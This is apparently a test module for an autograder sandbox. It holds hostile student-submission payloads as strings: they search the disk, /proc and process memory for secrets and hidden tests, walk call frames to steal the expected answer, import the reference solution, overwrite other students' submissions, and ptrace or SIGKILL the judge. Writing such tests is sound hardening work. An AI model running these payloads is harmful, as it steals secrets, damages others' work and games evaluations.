"""Rows 1, 10, 11 and 20: reading what is not the student's."""

from tests.submissions.hostile.attack import PATTERN, Attack, early, function, late

# Patterns are taken apart, so that a search through memory or files does not find itself.
SEARCH = f"""
import pathlib
words = "pracuj na kopii, b[o]|library_convolution[s]|class_activation_ma[p]"
WANTED = re.compile(("{PATTERN[:5]}" + "{PATTERN[5:]}|" + words).encode())

def search(path, most=1 << 22):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return {{found.decode() for found in WANTED.findall(os.read(descriptor, most))}}
        finally:
            os.close(descriptor)
    except OSError:
        return set()
"""

WALK = (
    SEARCH
    + """
python = (sys.prefix + "/lib", sys.base_prefix + "/lib")
skipped = ("/proc", "/sys", "/usr/lib", "/usr/share/fonts")
files = []
for root, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if not os.path.join(root, name).startswith(skipped)]
    files += [os.path.join(root, name) for name in names
              if not root.startswith(python) or re.search("autograder|splot|task[0-9]|canary|secret", root + name)]
print(len(files), {word for path in files for word in search(path)})
"""
)

PROCESSES = (
    SEARCH
    + """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo", "maps"):
        print(pid, name, search(f"/proc/{pid}/{name}"))
    for name in ("root", "cwd", "fd"):
        try:
            print(pid, name, [search(f"/proc/{pid}/{name}/{entry}") for entry in os.listdir(f"/proc/{pid}/{name}")])
        except OSError as error:
            print(pid, name, error.errno)
print({word for value in os.environ.values() for word in WANTED.findall(value.encode())})
"""
)

MEMORY = (
    SEARCH
    + """
import gc
print({word for thing in gc.get_objects() for word in WANTED.findall(repr(type(thing)).encode())})
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        area, rights = line.split()[:2]
        start, end = (int(part, 16) for part in area.split("-"))
        if "r" in rights and "[v" not in line and end - start < 2**27:
            try:
                memory.seek(start)
                found |= set(WANTED.findall(memory.read(end - start)))
            except (OSError, ValueError):
                pass
print("memory", {word.decode() for word in found if b"[" not in word})
"""
)

TEMPORARY = (
    SEARCH
    + """
home = pathlib.Path("~root").expanduser()
print([search(path) for folder in (pathlib.Path("/tmp"), home, pathlib.Path.home()) for path in folder.glob("canary-*")])
"""
)

FRAMES = """
import gc

def convolution(X, K, q):
    wanted = (X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[0] + 1, q)
    frame, things = sys._getframe(), gc.get_objects()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values(), *things]:
            if isinstance(value, (np.ndarray, torch.Tensor)) and tuple(value.shape) == wanted:
                return value
        frame, things = frame.f_back, []
    return np.zeros(wanted)
"""

NEIGHBOUR = (
    SEARCH
    + """
places = {part for line in open("/proc/self/mountinfo") for part in line.split() if part.startswith("/")}
places |= {"/tmp", "/home", "/root", "/work", "..", "../..", "/splot/..", "/splot/outbox/.."}
for place in sorted(places):
    for up in [pathlib.Path(place), *pathlib.Path(place).absolute().parents]:
        for folder in ("submitted", "graded", "sasiad", "prawy", "."):
            for path in up.joinpath(folder).glob("*/cnn/*"):
                print(path, search(path))
                try:
                    path.write_text("was here")
                except OSError:
                    pass
"""
)

IMPORTING = """
import importlib
sys.path += [str(up) for path in list(sys.path) if path for up in __import__("pathlib").Path(path).absolute().parents]
NAMES = "autograder.lesson.graders.task1_convolution autograder.engine.judging.judge reference.convolution reference tests"
for name in NAMES.split():
    try:
        module = importlib.import_module(name)
        print(name, module.__path__ if hasattr(module, "__path__") else module.__file__)
        convolution = module.convolution
    except (ImportError, AttributeError) as error:
        print(name, type(error).__name__)
"""

JUDGE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in [*range(1, 400), os.getppid()]:
    if pid != os.getpid():
        try:
            os.kill(pid, 0)
            print("sees", pid, libc.ptrace(16, pid, 0, 0), libc.syscall(310, pid, 0, 0, 0, 0, 0))
        except OSError:
            pass
for pid in range(400, 70000):
    try:
        os.kill(pid, signal.SIGKILL)
        print("killed", pid)
    except OSError:
        pass
"""

ATTACKS = (
    Attack("walks-the-disk", "1", "answers and hidden tests on disk", early(WALK)),
    Attack("reads-temporary-files", "1", "what lies about in /tmp and at home", early(TEMPORARY)),
    Attack("searches-proc", "1, 10", "secrets in environments and command lines", early(PROCESSES), soak=True),
    Attack("searches-memory", "1", "answers in memory, after the probe was there", late(MEMORY), soak=True),
    Attack("walks-frames", "1", "the expected array in a caller's frame", function(FRAMES), soak=True),
    Attack("reaches-for-the-neighbour", "11", "another student's submission and grade", early(NEIGHBOUR)),
    Attack("imports-the-graders", "1, 19", "the reference as a solution", early(IMPORTING), soak=True),
    Attack("signals-and-traces", "20", "the judge's process", early(JUDGE), soak=True),
)
